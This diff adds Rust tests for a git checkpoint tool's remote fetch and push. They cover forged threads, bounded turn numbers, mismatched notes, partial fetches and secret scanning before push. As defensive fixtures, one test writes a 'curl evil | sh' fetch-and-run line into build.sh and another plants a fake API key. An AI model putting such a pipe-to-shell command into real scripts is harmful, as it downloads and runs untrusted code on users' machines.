@@ -209,3 +209,202 @@ fn a_clashing_turn_does_not_stop_the_rest_of_a_fetch() {
         r.t3_in(&other, &["verify"]).ok();
     }
 }
+
+/// The refs of `thread` under `refs/t3/remotes/<remote>/`.
+fn remote_turns(r: &TestRepo, cwd: &std::path::Path, remote: &str, thread: &str) -> Vec<String> {
+    let b64 = ref_for(thread, 0)
+        .trim_start_matches("refs/t3/checkpoints/")
+        .trim_end_matches("/turn/0")
+        .to_owned();
+    let out = r
+        .git_in(
+            cwd,
+            &[
+                "for-each-ref",
+                "--format=%(refname)",
+                &format!("refs/t3/remotes/{remote}/{b64}/"),
+            ],
+        )
+        .ok()
+        .out();
+    out.lines().map(str::to_owned).collect()
+}
+
+#[test]
+fn a_remote_thread_that_is_not_a_continuation_is_kept_apart() {
+    let (r, _remote, other) = two_machines();
+    // Here: thread t, turns 0 and 1, never pushed.
+    r.t3(&["baseline", "--thread", "t"]).ok();
+    r.write("mine.txt", "mine\n");
+    r.t3(&["capture", "--thread", "t"]).ok();
+    let before = r.refs("refs/t3/checkpoints/");
+    // The other side forges thread t: its own commits, notes and title.
+    r.t3_in(&other, &["baseline", "--thread", "t"]).ok();
+    for n in 1..=3 {
+        std::fs::write(other.join("build.sh"), format!("curl evil | sh # {n}\n")).unwrap();
+        r.t3_in(&other, &["capture", "--thread", "t"]).ok();
+    }
+    r.t3_in(&other, &["push", "origin", "--allow-secrets"]).ok();
+    let f = r.t3(&["fetch", "origin"]).ok();
+    assert!(f.out().contains("diverged"), "{}", f.out());
+    assert_eq!(r.refs("refs/t3/checkpoints/"), before, "the local thread changed");
+    assert_eq!(remote_turns(&r, &r.root, "origin", "t").len(), 4);
+    // Its turns are not the thread's: a revert to one is refused.
+    r.t3(&["revert", "--thread", "t", "--to", "3", "--files-only"])
+        .fails(1);
+    assert!(!r.root.join("build.sh").exists());
+    r.t3(&["verify"]).ok();
+    // A fetch again finds the same, and keeps one copy.
+    r.t3(&["fetch", "origin"]).ok();
+    assert_eq!(remote_turns(&r, &r.root, "origin", "t").len(), 4);
+    // They are shown when asked for by the remote's name.
+    let listed = r.t3_json(&["list", "--remote", "origin"]);
+    assert_eq!(listed["threads"][0]["thread"], "t");
+    assert_eq!(listed["threads"][0]["turns"].as_array().unwrap().len(), 4);
+    let log = r.t3(&["log", "--remote", "origin", "--thread", "t"]).ok();
+    assert!(log.out().contains("turn 3"), "{}", log.out());
+    assert!(!r.t3(&["list"]).ok().out().contains("4 turns"));
+    // Named explicitly, a remote's turn is restored like any checkpoint.
+    r.t3(&[
+        "restore", "--thread", "t", "--turn", "3", "--remote", "origin", "build.sh",
+    ])
+    .ok();
+    assert_eq!(
+        std::fs::read_to_string(r.root.join("build.sh")).unwrap(),
+        "curl evil | sh # 3\n"
+    );
+    r.t3(&[
+        "restore", "--thread", "t", "--turn", "4", "--remote", "origin", "build.sh",
+    ])
+    .fails(2);
+}
+
+#[test]
+fn a_thread_continued_elsewhere_fast_forwards() {
+    let (r, _remote, other) = two_machines();
+    r.t3(&["baseline", "--thread", "t"]).ok();
+    r.write("one.txt", "1\n");
+    r.t3(&["capture", "--thread", "t"]).ok();
+    r.t3(&["push", "origin"]).ok();
+    r.t3_in(&other, &["fetch", "origin"]).ok();
+    for n in 2..=3 {
+        r.write("one.txt", &format!("{n}\n"));
+        r.t3(&["capture", "--thread", "t"]).ok();
+    }
+    r.t3(&["push", "origin"]).ok();
+    let f = r.t3_in(&other, &["fetch", "origin"]).ok();
+    assert!(!f.out().contains("diverged"), "{}", f.out());
+    assert_eq!(
+        r.git_in(&other, &["rev-parse", &ref_for("t", 3)])
+            .ok()
+            .out()
+            .trim(),
+        r.git(&["rev-parse", &ref_for("t", 3)])
+    );
+    assert!(remote_turns(&r, &other, "origin", "t").is_empty());
+}
+
+#[test]
+fn fetched_turn_numbers_are_bounded_and_junk_never_blocks_a_capture() {
+    let (r, remote, other) = two_machines();
+    r.t3(&["baseline", "--thread", "t"]).ok();
+    r.t3(&["push", "origin"]).ok();
+    r.t3_in(&other, &["fetch", "origin"]).ok();
+    // The remote gains turn 1000000000 of t, with a note that matches it.
+    let c = r.git(&["rev-parse", &ref_for("t", 0)]);
+    let far = ref_for("t", 1_000_000_000);
+    let note = r
+        .note(&ref_for("t", 0))
+        .replace("turn = 0", "turn = 1000000000")
+        .replace("/turn/0\"", "/turn/1000000000\"");
+    let blob = r.hash_object(&[], note.as_bytes());
+    let commit = r.git(&["commit-tree", "-p", &c, "-m", "far", &format!("{c}^{{tree}}")]);
+    r.git(&["notes", "--ref=refs/notes/t3", "add", "-f", "-C", &blob, &commit]);
+    r.git(&["update-ref", &far, &commit]);
+    r.git(&["push", "-q", remote.to_str().unwrap(), &far, "refs/notes/t3"]);
+    r.git(&["update-ref", "-d", &far]);
+    let f = r.t3_in(&other, &["fetch", "origin"]).fails(1);
+    assert!(
+        f.out().contains("1000000000") && f.stderr.contains("refused"),
+        "{}{}",
+        f.out(),
+        f.stderr
+    );
+    assert_eq!(r.git_in(&other, &["rev-parse", "-q", "--verify", &far]).code, 1);
+    // A ref that is there all the same (written by hand) never moves the count.
+    r.git_in(&other, &["update-ref", &far, &commit]).ok();
+    std::fs::write(other.join("next.txt"), "next\n").unwrap();
+    let out = r.t3_json_in(&other, &["capture", "--thread", "t"]);
+    assert_eq!(out["turn"], 1, "{out}");
+}
+
+#[test]
+fn a_ref_whose_note_names_another_thread_is_refused() {
+    let (r, remote, other) = two_machines();
+    r.t3(&["baseline", "--thread", "x"]).ok();
+    r.t3(&["push", "origin"]).ok();
+    // Thread y's turn 0 points at thread x's commit (whose note names x).
+    let c = r.git(&["rev-parse", &ref_for("x", 0)]);
+    r.git(&[
+        "push",
+        "-q",
+        remote.to_str().unwrap(),
+        &format!("{c}:{}", ref_for("y", 0)),
+    ]);
+    let f = r.t3_in(&other, &["fetch", "origin"]).fails(1);
+    assert!(f.out().contains(&ref_for("y", 0)), "{}", f.out());
+    assert_eq!(
+        r.git_in(&other, &["rev-parse", "-q", "--verify", &ref_for("y", 0)])
+            .code,
+        1
+    );
+    // Thread x arrived, with its note.
+    r.t3_json_in(&other, &["show", "--thread", "x", "--turn", "0"]);
+    r.t3_in(&other, &["verify"]).ok();
+}
+
+#[test]
+fn a_partial_fetch_reports_gits_reason_and_takes_the_rest() {
+    let (r, _remote, other) = two_machines();
+    for t in ["a", "b"] {
+        r.t3(&["baseline", "--thread", t]).ok();
+    }
+    r.t3(&["push", "origin"]).ok();
+    // A lock file in the way of one staged ref: git refuses that one.
+    let staged = ref_for("b", 0).replace("refs/t3/checkpoints/", "refs/t3-incoming/checkpoints/");
+    let lock = other.join(".git").join(format!("{staged}.lock"));
+    std::fs::create_dir_all(lock.parent().unwrap()).unwrap();
+    std::fs::write(&lock, "").unwrap();
+    let f = r.t3_in(&other, &["fetch", "origin"]).fails(1);
+    assert!(
+        f.stderr.contains("git took only part") && f.stderr.contains("lock"),
+        "{}",
+        f.stderr
+    );
+    r.t3_json_in(&other, &["show", "--thread", "a", "--turn", "0"]);
+    std::fs::remove_file(&lock).unwrap();
+    r.t3_in(&other, &["fetch", "origin"]).ok();
+    r.t3_json_in(&other, &["show", "--thread", "b", "--turn", "0"]);
+}
+
+#[test]
+fn push_scans_what_the_remote_lacks_even_when_the_note_names_it_in_head() {
+    let (r, _remote, _other) = two_machines();
+    // A key committed by mistake (never pushed), captured, then reset away.
+    r.write(".env", "API_KEY=sk-live-0123456789\n");
+    r.commit_all("oops");
+    r.t3(&["baseline", "--thread", "t"]).ok();
+    r.git(&["reset", "-q", "--hard", "HEAD~1"]);
+    r.write("work.txt", "w\n");
+    r.t3(&["capture", "--thread", "t"]).ok();
+    let out = r.t3(&["push", "origin"]).fails(1);
+    assert!(
+        out.stderr.contains(".env") && out.stderr.contains("turn 0"),
+        "{}",
+        out.stderr
+    );
+    assert!(r.git(&["ls-remote", "origin", "refs/t3/*"]).is_empty());
+    // Once the remote has the blob (the branch pushed), it is no secret of ours to keep.
+    r.git(&["push", "-q", "origin", "HEAD@{1}:refs/heads/with-env"]);
+    r.t3(&["push", "origin"]).ok();
+}
